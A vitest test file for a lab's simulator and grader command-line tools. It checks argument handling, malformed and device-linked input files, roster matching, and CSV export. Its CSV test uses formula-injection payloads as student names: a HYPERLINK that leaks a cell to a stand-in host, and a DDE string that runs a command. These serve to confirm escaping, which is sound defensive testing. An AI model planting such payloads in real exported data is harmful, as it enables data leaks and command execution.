/**
 * The command-line tools at their boundary: --help and unknown flags on every tool, the sim's
 * scenario files (a seed into a document that is not an object, deep nesting, a link to
 * /dev/zero, a named pipe, a byte-order mark), and the grader on a folder holding whatever a
 * folder can hold, with a roster, and with names made to run as spreadsheet formulas.
 */
import { execFile, execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { csvParseRows } from 'd3';
import { afterAll, describe, expect, it } from 'vitest';
import { runSim } from '../../tools/sim';
import { runGrade } from '../../tools/grade';

const run = (tool: typeof runSim | typeof runGrade, argv: string[]) => {
  const out: string[] = [];
  const err: string[] = [];
  const code = tool(argv, { out: (l) => out.push(l), err: (l) => err.push(l) });
  return { code, out, err };
};

const dir = mkdtempSync(join(tmpdir(), 'ni-lab-cli-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const file = (name: string, text: string) => {
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
};
const fixture = (name: string) =>
  readFileSync(`tests/fixtures/submissions/coh-false-sharing/${name}`, 'utf8');
let canPipe = true;
const pipe = (path: string) => {
  try {
    execFileSync('mkfifo', [path]);
  } catch {
    canPipe = false;
  }
  return path;
};

// Each tool starts in a process of its own (tsx): run side by side.
describe.concurrent(
  'every tool: --help on stdout with exit 0, an unknown flag CLI001 with exit 2',
  () => {
    const exec = promisify(execFile);
    const TOOLS = [
      'sim',
      'grade',
      'fidelity',
      'fingerprint',
      'bench',
      'bench:browser',
      'gen:schema',
      'gen:protocol-docs',
      'gen:icons',
      'soak',
    ];
    it.each(TOOLS)('npm run %s -- --help', async (tool) => {
      const { stdout, stderr } = await exec('npm', ['run', '-s', tool, '--', '--help'], {
        timeout: 60_000,
      });
      expect(stdout).toMatch(new RegExp(`^npm run ${tool}: `));
      expect(stdout).toContain('usage: ');
      expect(stdout).toContain('Options:');
      expect(stdout).toContain('-h, --help');
      expect(stdout).toContain('Exit codes:');
      expect(stderr).toBe('');
    });

    it('an unknown flag stops a tool before its work (fidelity: no row measured)', async () => {
      const bad = await exec('npm', ['run', '-s', 'fidelity', '--', '--frobnicate'], {
        timeout: 60_000,
      }).catch((e: { code: number; stdout: string; stderr: string }) => e);
      expect(bad).toMatchObject({ code: 2, stdout: '' });
      expect((bad as { stderr: string }).stderr).toMatch(/^CLI001 --frobnicate: unknown option/);
    });

    it('sim and grade: -h too, and an unknown flag', () => {
      for (const tool of [runSim, runGrade]) {
        expect(run(tool, ['-h'])).toMatchObject({ code: 0, err: [] });
        expect(run(tool, ['x', '--frobnicate'])).toMatchObject({
          code: 2,
          err: [expect.stringMatching(/^CLI001 --frobnicate: unknown option\nusage: npm run /)],
        });
      }
    });

    it('fidelity --help answers at once, before measuring any row', async () => {
      const started = performance.now();
      const { stdout } = await exec('npm', ['run', '-s', 'fidelity', '--', '--help']);
      expect(stdout).not.toMatch(/^pass |^FAIL /m);
      // The suite takes tens of seconds; the help, the start of tsx.
      expect(performance.now() - started).toBeLessThan(20_000);
    });
  },
);

describe('npm run sim: scenario files', () => {
  it.each([
    ['5', 'SCN004 (scenario): expected a JSON object, got 5'],
    ['null', 'SCN004 (scenario): expected a JSON object, got null'],
    ['"five"', 'SCN004 (scenario): expected a JSON object, got "five"'],
  ])('--seed 3 and --set seed=3 into a file holding %s: a code, exit 1', (text, line) => {
    const path = file(`holds-${text.length}.json`, text);
    for (const flags of [['--seed', '3'], ['--set', 'seed=3'], []])
      expect(run(runSim, [path, ...flags])).toMatchObject({ code: 1, err: [line] });
  });

  it('a scenario nested 5,000 deep: SCN011, exit 1', () => {
    const path = file('deep.json', `{"version":1,"system":${'['.repeat(5000)}${']'.repeat(5000)}}`);
    expect(run(runSim, [path])).toMatchObject({
      code: 1,
      err: ['SCN011 (scenario): too large: more than 32 levels of nesting'],
    });
  });

  it('a link to /dev/zero, a folder and a named pipe: CLI005, at once', () => {
    const zero = join(dir, 'zero.json');
    symlinkSync('/dev/zero', zero);
    expect(run(runSim, [zero])).toMatchObject({
      code: 1,
      err: [`CLI005 (scenario): ${zero}: a device, not a regular file`],
    });
    expect(run(runSim, [dir]).err[0]).toMatch(/^CLI005 .*a folder, not a regular file/);
    const fifo = pipe(join(dir, 'scenario-pipe.json'));
    if (canPipe) expect(run(runSim, [fifo]).err[0]).toMatch(/a named pipe, not a regular file/);
  });

  it('a file with a byte-order mark runs', () => {
    const text = readFileSync('scenarios/coherence/read-sharing.json', 'utf8');
    const path = file('bom.json', `\uFEFF${text}`);
    const { code, out } = run(runSim, [path, '--cycles', '5']);
    expect(code).toBe(0);
    expect(out[0]).toMatch(/^Read sharing \(read-sharing\)/);
  });

  it('an override past the end of a list is refused at once', () => {
    const started = performance.now();
    expect(run(runSim, ['read-sharing', '--set', 'memory.4294967294=1'])).toMatchObject({
      code: 2,
      err: [
        'CLI002 --set: memory.4294967294: index 4294967294 is past the end of memory (2 items; the next is 2)',
      ],
    });
    expect(performance.now() - started).toBeLessThan(2000);
  });

  it('a flag without its value and a flag given a value it does not take', () => {
    expect(run(runSim, ['read-sharing', '--cycles']).err).toEqual([
      'CLI002 --cycles: a value is missing (--cycles N)',
    ]);
    expect(run(runSim, ['read-sharing', '--json=yes']).err).toEqual([
      'CLI002 --json: takes no value',
    ]);
    expect(run(runSim, ['read-sharing', '--seed=7', '--cycles=3', '--json']).code).toBe(0);
  });
});

describe('npm run grade: whatever the folder holds', () => {
  // A folder of its own: its link to '..' must lead to nothing else.
  const folder = join(mkdtempSync(join(dir, 'grade-')), 'submissions');
  mkdirSync(folder);
  writeFileSync(join(folder, 'correct.json'), fixture('correct.json'));
  writeFileSync(join(folder, 'bom.json'), `\uFEFF${fixture('partly-correct.json')}`);
  writeFileSync(
    join(folder, 'deep.json'),
    `{"version":1,"answers":${'['.repeat(5000)}${']'.repeat(5000)}}`,
  );
  writeFileSync(join(folder, 'huge.json'), `{"x":"${'x'.repeat(1_100_000)}"}`);
  symlinkSync('loop-b.json', join(folder, 'loop-a.json'));
  symlinkSync('loop-a.json', join(folder, 'loop-b.json'));
  symlinkSync('/dev/zero', join(folder, 'zero.json'));
  symlinkSync('missing.json', join(folder, 'broken.json'));
  symlinkSync('..', join(folder, 'parent'));
  pipe(join(folder, 'x.json'));

  it('grades every file it can and reports every one it cannot', () => {
    const { code, out } = run(runGrade, ['coh-false-sharing', folder, '--json']);
    expect(code).toBe(0);
    const reports = out.map(
      (l) =>
        JSON.parse(l) as {
          source: string;
          status: string;
          total: number;
          problems: { code: string; message: string }[];
        },
    );
    const byName = new Map(reports.map((r) => [r.source.split('/').pop()!, r]));
    expect(byName.get('correct.json')).toMatchObject({ status: 'graded', total: 10 });
    expect(byName.get('bom.json')).toMatchObject({ status: 'graded', total: 4.5 });
    const problem = (name: string) => byName.get(name)?.problems[0];
    expect(problem('deep.json')).toMatchObject({ code: 'SUB010' });
    expect(problem('huge.json')).toMatchObject({ code: 'SUB010' });
    expect(problem('loop-a.json')).toMatchObject({
      code: 'SUB009',
      message: 'a symbolic link that loops',
    });
    expect(problem('loop-b.json')).toMatchObject({ code: 'SUB009' });
    expect(problem('zero.json')).toMatchObject({
      code: 'SUB009',
      message: 'a device, not a regular file',
    });
    expect(problem('broken.json')).toMatchObject({ code: 'SUB009', message: 'a broken link' });
    if (canPipe)
      expect(problem('x.json')).toMatchObject({
        code: 'SUB009',
        message: 'a named pipe, not a regular file',
      });
    // The link back up is walked once: no file is graded twice.
    expect(reports.filter((r) => r.source.endsWith('correct.json'))).toHaveLength(1);
  });

  it('an assignment with a title 6,000 deep is refused with a code, exit 1', () => {
    const doc = JSON.parse(readFileSync('scenarios/assignments/coh-false-sharing.json', 'utf8'));
    const text = JSON.stringify({ ...doc, title: 'TITLE' }).replace(
      '"TITLE"',
      `${'['.repeat(6000)}"x"${']'.repeat(6000)}`,
    );
    const { code, err } = run(runGrade, [file('deep-title.json', text), folder]);
    expect(code).toBe(1);
    expect(err).toEqual(['ASG010 (assignment): too large: more than 32 levels of nesting']);
  });
});

describe('npm run grade --csv: names made to run as formulas stay text', () => {
  const hostile = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1,2)',
    '\tTAB=1',
    '\r=1',
    'plain; =1+1',
  ];
  const folder = join(dir, 'hostile');
  mkdirSync(folder);
  hostile.forEach((name, i) => {
    const doc = JSON.parse(fixture('correct.json')) as { student: { id: string; name: string } };
    doc.student = { id: i === 0 ? '=1+1' : `s${2000 + i}`, name };
    writeFileSync(join(folder, `${i}.json`), JSON.stringify(doc));
  });

  it('every cell that would start a formula is prefixed, and the file parses back', () => {
    const { code, out } = run(runGrade, ['coh-false-sharing', folder, '--csv']);
    expect(code).toBe(0);
    const rows = csvParseRows(out.join('\n'));
    const names = rows.slice(1).map((r) => r[2]);
    expect(names).toEqual(hostile.map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n)));
    expect(rows[1]![1]).toBe("'=1+1");
    for (const row of rows.slice(1))
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('npm run grade --roster', () => {
  const folder = join(dir, 'roster-batch');
  mkdirSync(folder);
  const submit = (name: string, id: string, student: string) => {
    const doc = JSON.parse(fixture('correct.json')) as { student: { id: string; name: string } };
    doc.student = { id, name: student };
    writeFileSync(join(folder, name), JSON.stringify(doc));
  };
  submit('s1001.json', 's1001', 'Ada Lovelace');
  submit('s1002.json', 's1001', 'Ada Lovelace'); // s1002 answered with s1001's values
  submit('visitor.json', 's9999', 'Somebody');
  submit('s1004.json', 's1004', 'Edsger  dijkstra');
  submit('s1005.json', 's1005', 'Not Barbara');
  const roster = file(
    'roster.csv',
    '\uFEFFStudent ID,Name\ns1001,Ada Lovelace\ns1002,Grace Hopper\ns1003,Alan Turing\ns1004,Edsger Dijkstra\ns1005,Barbara Liskov\n',
  );

  it('flags ids off the roster, names that do not match and files named for another student', () => {
    const { code, out, err } = run(runGrade, [
      'coh-false-sharing',
      folder,
      '--csv',
      '--roster',
      roster,
    ]);
    expect(code).toBe(0);
    const rows = csvParseRows(out.join('\n'));
    const problems = new Map(rows.slice(1).map((r) => [r[0]!.split('/').pop() ?? '', r.at(-1)!]));
    expect(problems.get('s1001.json')).toContain('SUB008'); // two files carry s1001
    expect(problems.get('s1001.json')).not.toContain('SUB011');
    expect(problems.get('s1002.json')).toContain(
      'SUB011 student.id: the file is named for s1002 but carries the id "s1001", another student on the roster',
    );
    expect(problems.get('visitor.json')).toContain(
      'SUB011 student.id: "s9999" is not on the roster',
    );
    expect(problems.get('s1004.json') ?? '').toBe('');
    expect(problems.get('s1005.json')).toContain(
      'SUB011 student.name: "Not Barbara" is not the roster\'s name for s1005 ("Barbara Liskov")',
    );
    const missing = rows.filter((r) => r[3] === 'missing').map((r) => r[1]);
    expect(missing).toEqual(['s1003']);
    expect(err.at(-1)).toMatch(/roster: 3 flagged, 1 of 5 did not submit/);
  });

  it('a roster that cannot be used is a coded error, exit 2', () => {
    const twice = file('twice.csv', 'id,name\ns1,A\ns1,B\n');
    expect(run(runGrade, ['coh-false-sharing', folder, '--roster', twice]).err).toEqual([
      'CLI006 --roster: line 3: student "s1" is listed again (line 2)',
    ]);
    expect(
      run(runGrade, ['coh-false-sharing', folder, '--roster', file('empty.csv', '')]),
    ).toMatchObject({
      code: 2,
      err: ['CLI006 --roster: no students in the roster'],
    });
    expect(run(runGrade, ['coh-false-sharing', folder, '--roster', '/dev/zero']).err[0]).toMatch(
      /^CLI005 --roster: \/dev\/zero: a device/,
    );
  });
});
